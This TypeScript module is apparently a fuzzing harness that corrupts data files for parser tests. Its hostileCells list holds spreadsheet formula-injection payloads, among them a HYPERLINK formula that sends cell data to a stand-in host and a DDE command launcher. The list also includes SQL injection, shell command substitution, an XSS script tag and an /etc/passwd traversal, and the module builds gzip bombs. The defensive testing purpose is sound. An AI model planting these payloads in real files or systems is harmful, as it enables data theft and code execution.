import { constants, deflateRawSync, gzipSync } from 'node:zlib';
import type { Random } from '../../pipeline/core/random.js';
import { csvText, type Form, type GoodFile } from './book.js';

/** Makes a corrupted file of a good one in one of the forms that it is for. */
export interface Corruption {
  readonly name: string;
  readonly forms: readonly Form[];
  corrupt(good: GoodFile, form: Form, random: Random): Buffer;
}

const text: readonly Form[] = ['csv', 'jsonl', 'json'];
const zipped: readonly Form[] = ['csv.gz', 'jsonl.gz'];
const binary: readonly Form[] = ['parquet', 'arrow', 'arrows'];
const all: readonly Form[] = [...text, ...zipped, ...binary];

/** Cells that spreadsheets, shells, databases or browsers would run, and others that are hard to read. */
const hostileCells = [
  '=HYPERLINK("http://x.invalid/?"&A1,"pay")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'; DROP TABLE stg_loan; --",
  "\"); ATTACH 'x.db'; --",
  '$(id)',
  '`id`',
  '<script>alert(1)</script>',
  '{"a":1}',
  '../../../../etc/passwd',
  '\0',
  '\u202Egnp.exe',
  '\uFEFF',
  '\u0000P1',
  'NaN',
  '1e309',
  '-0',
  '99999999999999999999999999',
  '0x7f',
  '2024-02-30',
  '9999-12-31',
  '-infinity',
  'a\r\nb',
  'x'.repeat(100_000),
  '𠜎'.repeat(50),
];

function bitFlips(bytes: Buffer, random: Random): Buffer {
  const flipped = Buffer.from(bytes);
  for (let n = 1 + random.below(12); n > 0; n--)
    flipped[random.below(flipped.length)] ^= 1 << random.below(8);
  return flipped;
}

function randomBytes(length: number, random: Random): Buffer {
  return Buffer.from(Uint8Array.from({ length }, () => random.below(256)));
}

function inserted(bytes: Buffer, added: Buffer, random: Random): Buffer {
  const at = random.below(bytes.length + 1);
  return Buffer.concat([bytes.subarray(0, at), added, bytes.subarray(at)]);
}

function swapped<T>(list: readonly T[], random: Random): T[] {
  const copy = [...list];
  const a = random.below(copy.length);
  const b = random.below(copy.length);
  [copy[a], copy[b]] = [copy[b], copy[a]];
  return copy;
}

function formed(form: Form, columns: readonly string[], rows: readonly (readonly string[])[]): Buffer {
  const objects = rows.map((row) => Object.fromEntries(columns.map((column, c) => [column, row[c]])));
  const content = form.startsWith('csv')
    ? csvText(columns, rows)
    : form === 'json'
      ? JSON.stringify(objects)
      : objects.map((object) => `${JSON.stringify(object)}\n`).join('');
  const bytes = Buffer.from(content);
  return form.endsWith('.gz') ? gzipSync(bytes) : bytes;
}

function utf16be(content: string): Buffer {
  return Buffer.from(content, 'utf16le').swap16();
}

/** Members of gzip files that unfold to `mebibytes` of one byte. */
const bombs = new Map<string, Buffer>();
function bomb(content: string, mebibytes: number): Buffer {
  const key = `${content}/${mebibytes}`;
  let made = bombs.get(key);
  if (!made) {
    const member = gzipSync(Buffer.alloc(1 << 24, content), { level: constants.Z_BEST_COMPRESSION });
    made = Buffer.concat(Array.from({ length: Math.ceil(mebibytes / 16) }, () => member));
    bombs.set(key, made);
  }
  return made;
}

/** All ways to corrupt a file's bytes. */
export const corruptions: readonly Corruption[] = [
  { name: 'bit flips', forms: all, corrupt: (good, form, random) => bitFlips(good.bytes[form], random) },
  {
    name: 'truncation',
    forms: all,
    corrupt: (good, form, random) => good.bytes[form].subarray(0, random.below(good.bytes[form].length)),
  },
  {
    name: 'lost middle',
    forms: all,
    corrupt: (good, form, random) => {
      const bytes = good.bytes[form];
      const from = random.below(bytes.length);
      return Buffer.concat([bytes.subarray(0, from), bytes.subarray(from + 1 + random.below(200))]);
    },
  },
  {
    name: 'repeated middle',
    forms: all,
    corrupt: (good, form, random) => {
      const bytes = good.bytes[form];
      const from = random.below(bytes.length);
      return inserted(bytes, bytes.subarray(from, from + 1 + random.below(400)), random);
    },
  },
  {
    name: 'random bytes inside',
    forms: all,
    corrupt: (good, form, random) =>
      inserted(good.bytes[form], randomBytes(1 + random.below(40), random), random),
  },
  {
    name: 'random bytes alone',
    forms: all,
    corrupt: (_, __, random) => randomBytes(random.below(3000), random),
  },
  {
    name: 'another format under the name',
    forms: all,
    corrupt: (good, _, random) => good.bytes[all[random.below(all.length)]],
  },
  {
    name: 'bytes overwritten with zeros',
    forms: all,
    corrupt: (good, form, random) => {
      const bytes = Buffer.from(good.bytes[form]);
      const from = random.below(bytes.length);
      return bytes.fill(0, from, Math.min(bytes.length, from + 1 + random.below(64)));
    },
  },
  {
    name: 'swapped columns',
    forms: [...text, ...zipped],
    corrupt: ({ columns, rows }, form, random) => formed(form, swapped(columns, random), rows),
  },
  {
    name: 'swapped cells',
    forms: [...text, ...zipped],
    corrupt: ({ columns, rows }, form, random) =>
      formed(
        form,
        columns,
        rows.map((row) => (random.below(4) === 0 ? swapped(row, random) : row)),
      ),
  },
  {
    name: 'hostile cells',
    forms: [...text, ...zipped],
    corrupt: ({ columns, rows }, form, random) =>
      formed(
        form,
        columns,
        rows.map((row) =>
          row.map((cell) =>
            random.below(12) === 0 ? hostileCells[random.below(hostileCells.length)] : cell,
          ),
        ),
      ),
  },
  {
    name: 'hostile names of columns',
    forms: [...text, ...zipped],
    corrupt: ({ columns, rows }, form, random) =>
      formed(
        form,
        columns.map((name) =>
          random.below(3) === 0 ? hostileCells[random.below(hostileCells.length)] : name,
        ),
        rows,
      ),
  },
  {
    name: 'stray quotes, delimiters and line ends',
    forms: ['csv'],
    corrupt: (good, form, random) => {
      let bytes: Buffer = good.bytes[form];
      for (let n = 1 + random.below(6); n > 0; n--)
        bytes = inserted(
          bytes,
          Buffer.from(['"', ',', '\n', '\r', '\r\n', '""', ';'][random.below(7)]),
          random,
        );
      return bytes;
    },
  },
  {
    name: 'other line ends',
    forms: ['csv', 'jsonl'],
    corrupt: (good, form, random) =>
      Buffer.from(good.bytes[form].toString().replaceAll('\n', ['\r\n', '\r', '\n\n'][random.below(3)])),
  },
  {
    name: 'wrong encoding',
    forms: text,
    corrupt: (good, form, random) => {
      const content = good.bytes[form].toString();
      return [
        () => Buffer.from(content, 'utf16le'),
        () => Buffer.from(`\uFEFF${content}`, 'utf16le'),
        () => utf16be(content),
        () => utf16be(`\uFEFF${content}`),
        () => Buffer.from(`\uFEFF${content}`),
        () => Buffer.from(content, 'latin1'),
        () => Buffer.from(content.replaceAll('現金', 'Ï½ð'), 'latin1'),
        () => Buffer.from(Buffer.from(`\uFEFF${content}`, 'utf16le').subarray(0, -1)),
        () => inserted(Buffer.from(content), Buffer.from([0xed, 0xa0, 0x80, 0xff, 0xc0, 0xaf]), random),
      ][random.below(9)]();
    },
  },
  {
    name: 'a very long line',
    forms: ['csv', 'jsonl'],
    corrupt: (good, form, random) =>
      inserted(good.bytes[form], Buffer.alloc(2_500_000, ['x', ',', '"', '['][random.below(4)]), random),
  },
  {
    name: 'very many columns',
    forms: ['csv', 'jsonl', 'json'],
    corrupt: ({ columns, rows }, form, random) => {
      const more = Array.from({ length: 2001 + random.below(3000) }, (_, n) => `c${n}`);
      return formed(form, [...columns, ...more], [[...rows[0], ...more]]);
    },
  },
  {
    name: 'deep nesting',
    forms: ['jsonl', 'json'],
    corrupt: (good, form, random) => {
      const depth = 1000 + random.below(100_000);
      const deep = `{"loan_id":${'['.repeat(depth)}1${random.below(2) === 0 ? ']'.repeat(depth) : ''}}`;
      const bytes = good.bytes[form];
      return form === 'json'
        ? Buffer.concat([bytes.subarray(0, -1), Buffer.from(`,${deep}]`)])
        : Buffer.concat([bytes, Buffer.from(`${deep}\n`)]);
    },
  },
  {
    name: 'damaged gzip',
    forms: zipped,
    corrupt: (good, form, random) => {
      const bytes = good.bytes[form];
      const raw = good.bytes.csv;
      return [
        () => Buffer.concat([bytes, randomBytes(20, random)]),
        () => Buffer.concat([bytes, bytes]),
        () => gzipSync(bytes),
        () => Buffer.concat([bytes.subarray(0, -8), Buffer.alloc(8)]),
        () => Buffer.concat([bytes.subarray(0, 10), deflateRawSync(raw)]),
        () => bytes.subarray(0, 2),
        () => gzipSync(Buffer.alloc(0)),
      ][random.below(7)]();
    },
  },
  {
    name: 'zip bomb',
    forms: zipped,
    corrupt: (good, form, random) => {
      const content = ['\0', 'x', '\n', ',', '"', ' '][random.below(6)];
      const start = random.below(2) === 0 ? [good.bytes[form]] : [];
      return Buffer.concat([...start, bomb(content, 96)]);
    },
  },
];
